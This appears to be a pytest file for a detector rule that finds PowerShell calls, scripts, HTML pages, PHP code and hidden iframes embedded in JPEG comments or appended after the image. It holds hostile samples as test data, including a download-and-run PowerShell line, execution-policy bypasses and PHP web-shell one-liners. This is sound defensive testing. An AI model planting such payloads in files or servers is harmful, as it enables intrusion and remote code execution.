"""The forms in which `embedded-payload` finds calls of PowerShell, scripts and pages in a text."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from corrupt_samples.encode import jpeg
from corrupt_samples.pictures import photo
from tests.embedding import in_comments, places

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "embedded-payload"


@pytest.mark.parametrize(
    "parameters",
    [
        b'-nop -w hidden -c "IEX (x)"',
        b"-NoProfile -File a.ps1",
        b"-ep bypass -f a.ps1",
        b"-ExecutionPolicy Bypass",
        b"-Exec Bypass",
        b"-enc bABzACAALQBsACAALwB0AG0AcAA=",
        b"-EncodedCommand bABzACAALQBsACAALwB0AG0AcAA=",
        b"-e bABzACAALQBsACAALwB0AG0AcAA=",
        b"-Command Get-Date",
        b"-WindowStyle Hidden",
        b"-noni -c ls",
        b"-NonInteractive",
        b"-sta -c ls",
        b"-version 2 -c ls",
        b"/c ls",
        b'-file "C:\\a b\\c.ps1"',
    ],
)
@pytest.mark.parametrize("name", [b"powershell", b"PowerShell.exe"])
def test_finds_powershell_by_its_own_parameters(fired: Fired, name: bytes, parameters: bytes) -> None:
    code = name + b" " + parameters + b"\r\n"
    files = {"a.jpg": jpeg(photo("a"), comment=code), "behind.jpg": jpeg(photo("a")) + code}
    assert places(fired(RULE, files)) == {
        "a.jpg": "a Windows batch file in the comment of the JPEG",
        "behind.jpg": "a Windows batch file after the end of the JPEG",
    }


def test_finds_whole_scripts_in_which_something_runs(fired: Fired) -> None:
    scripts = [
        b"<script>alert(1)</script>",
        b"<script>alert (1)</script>",
        b"<script >x=1</script >",
        b"<SCRIPT/src=//x/a.js></SCRIPT>",
        b"<script type='module'>import 'https://example.org/a.js'</script>",
        b"<script src='a.js'></script>",
        b"<script>alert`1`</script>",
        b"<script async src=a.js></script>",
        b"<script xlink:href='a.js'></script>",
        b"<script type='a/b'>\nlet a\n= 1</script>",
        b"<script>" + b"// nothing\n" * 80 + b"alert(1)</script>",
        b"<script type='a/b'>alert(1)//",
        b"<script>[]['at'](1)</script>",
    ]
    files = in_comments(scripts)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")


def test_finds_pages_with_blanks_and_text_where_they_may_stand(fired: Fired) -> None:
    pages = [
        b"<html>\n  <head><title>a</title></head>\n",
        b"<html>Hello</html>",
        b"<html>\nHello\n</html>\n",
        b"<html>Hello<p>you</p>",
        b"<html> <body> Hello </body> </html>",
        b"<!DOCTYPE html> <title>a</title> <p>b",
        b"<!doctype html>\n<html lang=en>\n<p>",
        b"note:\n<html lang='en'> Hello </html>",
    ]
    files = in_comments(pages)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "an HTML page in the comment of the JPEG")


ENCODINGS = {"8 bits": "latin-1", "le": "utf-16-le", "be": "utf-16-be"}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_is_silent_about_words_on_switches_and_tags(fired: Fired, encoding: str) -> None:
    told = [
        "PowerShell -NoProfile switch explained in class",
        "PowerShell -NoProfile -NonInteractive are switches",
        "PowerShell -ExecutionPolicy Bypass explained",
        "PowerShell -Command is a switch",
        "PowerShell -File runs a file such as a.ps1",
        "powershell -nologo and others, see page 7",
        "@echo off explained in a sentence",
        "Slide: <?php opens a block; echo prints",
        "<?php for beginners (part 2)",
        "<?php use it with care; slide 3",
        "The <?php ?> tags (and <?= ?>); a talk",
        "<?php and $variables; <?php - the tag (opening)",
        'Talk: <iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
        "<iframe src=//player.example.org/1></iframe>",
    ]
    texts = [text.encode(ENCODINGS[encoding]) for text in told]
    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_finds_what_a_server_or_a_shell_would_run(fired: Fired, encoding: str) -> None:
    run = [
        "<?php system($_GET['c']); ?>",
        "<?php\n\nnamespace A\\B;\necho 1;",
        "<?php echo prints; ?>",
        "<?php @eval($_POST[1]);",
        "<?php /* a comment */ phpinfo();",
        "<?php // a comment\nphpinfo();",
        "<?php phpinfo ();",
        "<?php ('sys'.'tem')('id');",
        "<?php include 'a.php';",
        "<?php class A extends B { function f() {} }",
        "<?php if ($a): ?>",
        "<?php return new A(1);",
        "<?php start: exit;",
        "<?php __halt_compiler();",
        "<?php `id`;",
        "Photo <?PHP die(1);",
        "powershell -nop Get-Process | Out-File a",
        "powershell -ep bypass C:\\a.ps1",
        "powershell -nop iex (iwr http://x)",
        "@echo off\r\ndel a\r\n",
        "<iframe src='https://example.org/x' width=0 height=0></iframe>",
        "<iframe src='https://example.org/x' style='display: none'></iframe>",
        "<iframe src='//example.org/x' onload='x()'></iframe>",
        "<iframe src='javascript:x()'></iframe>",
        "<iframe srcdoc='x' src='//example.org'></iframe>",
    ]
    texts = [text.encode(ENCODINGS[encoding]) for text in run]
    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
    assert sorted(files.keys() - fired(RULE, files).keys()) == []
